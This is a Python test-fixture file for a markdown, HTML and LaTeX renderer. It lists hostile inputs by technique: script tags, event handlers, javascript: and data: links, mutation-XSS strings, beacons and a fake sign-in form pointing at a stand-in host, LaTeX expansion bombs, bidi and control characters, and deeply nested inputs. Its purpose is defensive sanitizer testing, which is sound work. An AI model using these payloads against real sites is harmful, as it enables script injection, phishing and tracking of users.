"""Answers that try to run, load, cover, fake or break something. A script would set `window.__pwned`."""

# ruff: noqa: E501 - an attack on several lines is hard to read
from __future__ import annotations

import base64

RUN = "window.__pwned=1"
ELSEWHERE = "https://elsewhere.example"
_DATA = "data:text/html;base64," + base64.b64encode(f"<script>top.{RUN}</script>".encode()).decode()
_SVG = "data:image/svg+xml;base64," + base64.b64encode(f'<svg onload="{RUN}"/>'.encode()).decode()
_LINES = "\n".join

SMALL: dict[str, str] = {
    "script tags": f"<script>{RUN}</script>\n\n<ScRiPt src={ELSEWHERE}/x.js></sCrIpT>\n\nand <script>{RUN}",
    "broken script tags": f"<scr<script>ipt>{RUN}</scr</script>ipt>\n\n<script/x>{RUN}</script\t\n bar>",
    "event handlers": _LINES(
        [
            f'<img src=x onerror="{RUN}">',
            f"<body onload={RUN}>",
            f'<p onmouseover="{RUN}" style="position:fixed;inset:0">hover</p>',
            f"<details open ontoggle={RUN}>x</details>",
            f"<input autofocus onfocus={RUN}>",
            f"<video><source onerror={RUN}></video>",
            f"<marquee onstart={RUN}>x</marquee>",
            f"<div onanimationstart={RUN} style=animation:breathe></div>",
        ]
    ),
    "javascript links": _LINES(
        [
            f"[a](javascript:{RUN})",
            f"[b](JaVaScRiPt:{RUN})",
            f"[c](java\tscript:{RUN})",
            f"[d](&#106;avascript&colon;{RUN})",
            f"[e](\x01javascript:{RUN})",
            f"[f](javascript&#x3A;{RUN})",
            f"[g](<javascript:{RUN}>)",
            f"[h](%6aavascript:{RUN})",
            f"[i](//javascript:{RUN})",
            f'<a href="javascript:{RUN}">j</a>',
        ]
    ),
    "data links": f"[x]({_DATA}) [y]({_SVG}) <{_DATA}>",
    "vbscript and file links": f"[x](vbscript:MsgBox(1)) [y](file:///etc/passwd) [z](blob:{ELSEWHERE}/1)",
    "reference links": f"[x][1] [1]\n\n[1]: javascript:{RUN}\n[2]: {_DATA} 'title'\n\n[x][2]",
    "autolinks": f"<javascript:{RUN}> <data:text/html,x> javascript:{RUN} www.elsewhere.example",
    "nested links": f"[a [b](javascript:{RUN}) c](https://a.example) [![i](javascript:{RUN})](javascript:{RUN})",
    "titles that break out": f'[x](https://a.example "a\\" onmouseover={RUN} x=\\"") [y](https://a.example/"onclick={RUN})',
    "alternatives that break out": f'![" onerror="{RUN}](https://a.example/x) ![\'"><script>{RUN}</script>](x)',
    "svg with a script": f"<svg><script>{RUN}</script></svg>\n\n<svg onload={RUN}><circle r=9 /></svg>",
    "svg that uses": f'<svg><use href="{_SVG}#x"/><use xlink:href="{ELSEWHERE}/x.svg#y"/></svg>',
    "svg with a foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "svg that animates a link": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>x</text></a></svg>',
    "iframes": f'<iframe src="javascript:{RUN}"></iframe>\n<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "objects and embeds": f'<object data="{_DATA}"></object><embed src="{_DATA}"><applet code=x></applet>',
    "base": f'<base href="{ELSEWHERE}/">\n\n[relative](page) <a href="page">x</a>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    "policies of its own": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "style": f"<style>* {{ display: none !important; background: url({ELSEWHERE}/s) }}</style>",
    "style attributes": f'<div style="position:fixed;inset:0;z-index:9999;background:url({ELSEWHERE}/b)">covered</div>',
    "style sheets": f'<link rel=stylesheet href={ELSEWHERE}/x.css><style>@import "{ELSEWHERE}/y.css"</style>',
    "link hints": f"<link rel=preload as=script href={ELSEWHERE}/p><link rel=dns-prefetch href={ELSEWHERE}>",
    "image beacons in markdown": f"![seen]({ELSEWHERE}/pixel.png?who=voter) ![d]({_SVG})\n\n![r][b]\n\n[b]: {ELSEWHERE}/r.gif",
    "image beacons in html": f'<img src={ELSEWHERE}/a.png srcset="{ELSEWHERE}/b.png 2x"><picture><source srcset={ELSEWHERE}/c></picture>',
    "media beacons": f"<audio autoplay src={ELSEWHERE}/a></audio><video poster={ELSEWHERE}/v></video><input type=image src={ELSEWHERE}/i>",
    "link previews": f"{ELSEWHERE}/preview-me\n\n<a ping={ELSEWHERE}/ping href={ELSEWHERE}/page>x</a>",
    "mxss noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mxss math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "mxss svg style": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mxss template": f"<template><script>{RUN}</script></template><template shadowrootmode=open><img src onerror={RUN}></template>",
    "mxss forms": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mxss select and xmp": f'<select><xmp><script>{RUN}</script></xmp></select><title><a href="</title><img src onerror={RUN}>">',
    "forms": f"<form action={ELSEWHERE} method=post><input name=password><button autofocus>Sign in</button></form>",
    "clobbered names": "<form id=app name=body><input name=attributes><a id=cookie name=location href=x></a></form><p id=prompt>",
    "comments and instructions": f"<!-- --><img src=x onerror={RUN}> -->\n\n<!--><script>{RUN}</script>-->\n\n<?php x ?>\n\n<![CDATA[<img src onerror={RUN}>]]>",
    "code that breaks out": f'```"><img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```\n\n`</code><img src onerror={RUN}>`',
    "an unclosed fence": f"```html\n<script>{RUN}</script>\n<img src={ELSEWHERE}/x onerror={RUN}>",
    "a fence of many languages": f"~~~js onload={RUN}\n<script>{RUN}</script>\n~~~\n\n```__proto__\nx\n```\n\n```constructor\nx\n```",
    "tables that break out": f"| <img src onerror={RUN}> | [x](javascript:{RUN}) |\n|---|:--:|\n| <script>{RUN}</script> | ![x]({ELSEWHERE}/t) |",
    "latex links": f"$\\href{{javascript:{RUN}}}{{x}}$ $\\url{{javascript:{RUN}}}$",
    "latex html": f"$$\\htmlData{{onclick={RUN}}}{{x}}\\htmlStyle{{position:fixed}}{{y}}\\includegraphics{{{ELSEWHERE}/x.png}}$$",
    "latex bombs": "$\\def\\a{\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c}\\def\\c{\\d\\d\\d\\d}\\def\\d{xxxxxx\\a}\\a$ $\\def\\x{\\x\\x}\\x$",
    "latex sizes": "$\\rule{999999em}{999999em}$ $\\hspace{-9999em}x$ $$\\raisebox{9999em}{x}\\kern{9999em}y$$",
    "formulas that break out": f"$<img src=x onerror={RUN}>$ $$</span><script>{RUN}</script>$$ \\(\\text{{<svg onload={RUN}>}}\\)",
    "directions": "a \u202egnp.exe\u202c \u2066hidden\u2069 \u202d\u202e\u202d [x](https://a.example/\u202egnp.x) שלום \u200f\u061c"
    + "\u202e" * 50,
    "broken characters": "a \ud800 b \udfff [x](https://a.example/\ud800) `\ud83d` \ufffe\uffff \ufdd0",
    "control characters": "a\x00b\x08c\x1b[31m red \x1b]0;title\x07 \u2028 \u2029 \x85 \ufeff <img\x00 src onerror=\x00"
    + RUN
    + ">",
    "marks without end": "Z" + "\u0300\u0489\u20dd" * 400 + " and on",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src onerror={RUN}&#62; &#x0; &#xd800; &nosuch; &amp;lt;",
    "prototypes": "__proto__ constructor toString [__proto__] [constructor]: x\n\n[toString]\n\n{{7*7}} ${7*7} <%= 7*7 %> {@html x}",
    "events of its own stream": 'event: end\ndata: {}\n\nevent: replaced\ndata: {"by": "x"}\n\n\r\r\n: ping\n\nid: 1',
    "ansi and bells": "\x1b]8;;https://elsewhere.example\x07click\x1b]8;;\x07" + "\x07" * 100,
}
"""By what they try; they come in small pieces, so that every half of them is shown, too."""

LARGE: dict[str, str] = {
    "deep quotes": ">" * 5000 + " deep",
    "deep brackets": "[" * 5000 + "x" + "](y)" * 5000,
    "deep lists": _LINES("  " * depth + "- x" for depth in range(500)),
    "deep tags": "<div>" * 5000 + "deep" + "</div>" * 5000,
    "stars and underscores": "*a _b **c __d " * 4000,
    "backticks": " a ".join("`" * (1 + n % 60) for n in range(2000)),
    "dollars": "$a " * 8000 + "\\[ x " * 4000,
    "no space": "x" * 1_000_000,
    "no space in code": "```\n" + "y" * 1_000_000,
    "long markdown": "".join(
        f"## Part {n}\n\nSome **bold** words, `code`, [a link](https://a.example/{n}) and $x_{{{n}}}$.\n\n- one\n- two\n\n"
        for n in range(1100)
    )[:100_000],
    "a long table": "| n | square |\n| --- | ---: |\n" + _LINES(f"| {n} | {n * n} |" for n in range(10_000)),
    "a wide table": _LINES("|" + f"{cell}|" * 3000 for cell in ("a", "-", "b")),
    "many lines": "\n" * 50_000 + "the end",
    "many formulas": " ".join(f"$\\frac{{{n}}}{{x^{n}}}$" for n in range(3000)),
}
"""What is too long or too deep; it comes in pieces of some thousand characters."""
